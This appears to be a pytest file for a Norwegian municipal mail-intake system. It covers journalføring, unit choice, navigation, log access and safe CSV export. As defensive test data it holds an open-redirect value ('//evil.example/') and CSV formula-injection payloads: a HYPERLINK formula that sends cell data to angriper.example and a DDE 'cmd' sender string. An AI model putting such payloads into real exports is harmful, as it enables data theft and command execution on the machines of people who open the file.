"""The clerk's workflow in postmottak (issue 13): journalføring is an explicit POST (the arkivmelding
download only reads), a changed unit is one of the tenant's units, "Tilbake" returns to the list the
clerk came from and "Neste melding" stays in it, log links only for those who may export the log, error
pages with the menu, and journal and log CSVs that cannot carry a formula (issue 12)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from pm_helpers import make_eml
from sqlalchemy import select

from kommuneki.core.errors import Conflict

INNSYN = make_eml(
    "Innsynskrav",
    "Jeg ber om innsyn i avtalen med entreprenøren om brøyting, jf. offentleglova.",
    message_id="<clerk-innsyn@x.no>",
)


def _take_in(c, raw: bytes, name: str = "m.eml") -> dict:
    r = c.post("/api/v1/postmottak/messages", files={"file": (name, raw, "message/rfc822")})
    assert r.status_code == 201, r.text
    return r.json()


def _state_and_actions(tenant, pm_id: int) -> tuple[str, list[str], int]:
    from kommuneki.core.models import AuditEntry
    from kommuneki.services.postmottak.models import PostmottakAction, PostmottakMessage

    platform, tid = tenant
    with platform.db.read_session(tid) as s:
        pm = s.get(PostmottakMessage, pm_id)
        actions = list(s.scalars(select(PostmottakAction.action).where(PostmottakAction.message_id == pm_id)))
        journal_events = len(
            list(s.scalars(select(AuditEntry.id).where(AuditEntry.event == "postmottak.journalfort")))
        )
        return pm.state, actions, journal_events


def _suggestion_of_kind(c, pm_id: int, kind: str) -> dict:
    m = c.get(f"/api/v1/postmottak/messages/{pm_id}").json()
    return next(s for s in m["suggestions"] if s["kind"] == kind)


def test_arkivmelding_download_changes_nothing_and_journalforing_is_an_explicit_post(pm_client, tenant):
    c = pm_client("arkivar")
    pm_id = _take_in(c, INNSYN)["id"]
    xml = c.get(f"/postmottak/{pm_id}/arkivmelding.xml")
    assert xml.status_code == 200 and b"INNSYNSKRAV" in xml.content
    # the GET read the arkivmelding and changed nothing: not journalført, nothing done, nothing logged
    assert _state_and_actions(tenant, pm_id) == ("triaged", [], 0)

    page = c.get(f"/postmottak/{pm_id}")
    assert "Avgjør dokumenttype og tittel før meldingen kan journalføres" in page.text
    # a POST while the dokumenttype suggestion is pending is refused with a reason, state unchanged
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    refused = c.post(f"/postmottak/{pm_id}/journalfor", data={"csrf_token": token}, follow_redirects=True)
    assert "Avgjør forslaget om dokumenttype og tittel" in refused.text
    assert _state_and_actions(tenant, pm_id) == ("triaged", [], 0)

    dt = _suggestion_of_kind(c, pm_id, "postmottak.dokumenttype")
    d = c.post(f"/api/v1/suggestions/{dt['id']}/decision", json={"outcome": "accepted"})
    assert d.status_code in (200, 201), d.text
    page = c.get(f"/postmottak/{pm_id}")
    assert f'action="/postmottak/{pm_id}/journalfor"' in page.text
    done = c.post(f"/postmottak/{pm_id}/journalfor", data={"csrf_token": token}, follow_redirects=True)
    assert "Meldingen er journalført" in done.text
    assert _state_and_actions(tenant, pm_id) == ("journalfort", ["journalfort"], 1)
    again = c.post(f"/postmottak/{pm_id}/journalfor", data={"csrf_token": token}, follow_redirects=True)
    assert "allerede journalført" in again.text
    assert _state_and_actions(tenant, pm_id) == ("journalfort", ["journalfort"], 1)
    # the download afterwards is the very arkivmelding whose hash was logged, and still changes nothing
    assert c.get(f"/postmottak/{pm_id}/arkivmelding.xml").content == xml.content
    assert c.get(f"/postmottak/{pm_id}/journalfor").status_code == 405  # never by a GET
    # a deleted message is not journalført
    from kommuneki.services.postmottak import service
    from kommuneki.services.postmottak.models import PostmottakMessage

    other = _take_in(c, make_eml("Hei", "Hull i veien ved skolen.", message_id="<clerk-del@x>"))["id"]
    platform, tid = tenant
    with platform.db.tenant_session(tid) as s:
        s.get(PostmottakMessage, other).state = "deleted"
    with pytest.raises(Conflict, match="slettet"):
        service.journalfor(platform, tid, other, actor="test")
    # the same through the API: refused with 409, and idempotent once done
    api = c.post(f"/api/v1/postmottak/messages/{other}/journalforing")
    assert api.status_code == 409 and "slettet" in api.json()["error"]["message"]
    assert c.post(f"/api/v1/postmottak/messages/{pm_id}/journalforing").json()["done"] == "already"


def test_a_changed_unit_must_be_one_of_the_tenants_units(pm_client):
    c = pm_client("arkivar")
    pm_id = _take_in(
        c,
        make_eml(
            "Søknad om dispensasjon",
            "Vi søker om dispensasjon fra byggegrensen for garasje på gnr 12 bnr 40.",
            message_id="<clerk-unit@x.no>",
        ),
    )["id"]
    unit = _suggestion_of_kind(c, pm_id, "postmottak.unit")
    page = c.get(f"/forslag/{unit['id']}")
    # a list of the tenant's units, not a free-text field
    assert '<select id="v-unit" name="v__unit">' in page.text
    assert '<option value="byggesak"' in page.text and '<option value="plan"' in page.text
    bad = c.post(
        f"/api/v1/suggestions/{unit['id']}/decision",
        json={"outcome": "changed", "final_value": {"unit": "finnesikke"}, "reason": "feil enhet"},
    )
    assert bad.status_code == 422 and "finnesikke" in bad.json()["error"]["message"]
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    form = {"csrf_token": token, "outcome": "changed", "reason": "feil", "v__unit": "finnesikke"}
    form_page = c.post(f"/forslag/{unit['id']}/avgjor", data={**form, "t__unit": "str"})
    assert form_page.status_code == 422 and "ikke en enhet i organisasjonen" in form_page.text
    ok = c.post(
        f"/api/v1/suggestions/{unit['id']}/decision",
        json={"outcome": "changed", "final_value": {"unit": "plan"}, "reason": "gjelder plan"},
    )
    assert ok.status_code in (200, 201), ok.text


def test_back_returns_to_the_list_the_clerk_came_from_and_next_stays_in_it(pm_client):
    c = pm_client("arkivar")
    ids = [
        _take_in(c, make_eml(f"Hull i veien {n}", f"Det er et hull i Storgata {n}.", message_id=f"<h{n}@x>"))[
            "id"
        ]
        for n in range(3)
    ]
    inbox = c.get("/postmottak?tilstand=triaged")
    assert f'href="/postmottak/{ids[2]}?tilstand=triaged"' in inbox.text  # newest first
    page = c.get(f"/postmottak/{ids[2]}?tilstand=triaged")
    assert 'href="/postmottak?tilstand=triaged"' in page.text  # back to the filtered list
    assert f'href="/postmottak/{ids[1]}?tilstand=triaged" rel="next"' in page.text
    last = c.get(f"/postmottak/{ids[0]}?tilstand=triaged")
    assert 'rel="next"' not in last.text and "Ingen flere meldinger" in last.text
    # from the message to a suggestion and back to the message (not to the general queue)
    m = re.search(r'href="(/forslag/(\d+)\?tilbake=[^"]+)"', page.text)
    assert m, "the Avgjør link carries the way back"
    suggestion_page = c.get(m.group(1).replace("&amp;", "&"))
    assert f'<a href="/postmottak/{ids[2]}?tilstand=triaged">← Tilbake</a>' in suggestion_page.text
    # a way back to another site is not followed
    evil = c.get(f"/forslag/{m.group(2)}?tilbake=//evil.example/")
    assert "evil.example" not in evil.text and '<a href="/">← Tilbake til forslagene</a>' in evil.text


def test_log_links_only_for_those_who_may_export_the_log_and_error_pages_have_the_menu(pm_client):
    arkivar, saksbehandler = pm_client("arkivar"), pm_client("saksbehandler")
    pm_id = _take_in(arkivar, INNSYN)["id"]
    assert "logg.csv" in arkivar.get(f"/postmottak/{pm_id}").text
    page = saksbehandler.get(f"/postmottak/{pm_id}")
    assert page.status_code == 200 and "logg.csv" not in page.text and "logg.json" not in page.text
    for path, status in (("/postmottak/987654", 404), (f"/postmottak/{pm_id}/logg.csv", 403)):
        r = saksbehandler.get(path, headers={"accept": "text/html"})
        assert r.status_code == status
        assert 'aria-label="Hovedmeny"' in r.text and "Logg ut" in r.text, path


def test_journal_and_log_csv_carry_no_formula(tenant):
    from kommuneki.services.postmottak import service

    platform, tid = tenant
    raw = make_eml(
        '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")',
        "Hei, se vedlagt søknad om byggetillatelse for garasje.",
        sender="=cmd|' /C calc'!A0 <angriper@example.com>",
        message_id="<formula@x>",
    )
    r = service.take_in(platform, tid, raw, source="test", actor="test")
    rows = list(csv.reader(io.StringIO(service.journal_csv(platform, tid, [r["id"]])), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    body, _ctype = service.export_log(platform, tid, r["id"], actor="test", fmt="csv")
    log_cells = [cell for row in csv.reader(io.StringIO(body.decode()), delimiter=";") for cell in row]
    assert not [cell for cell in log_cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
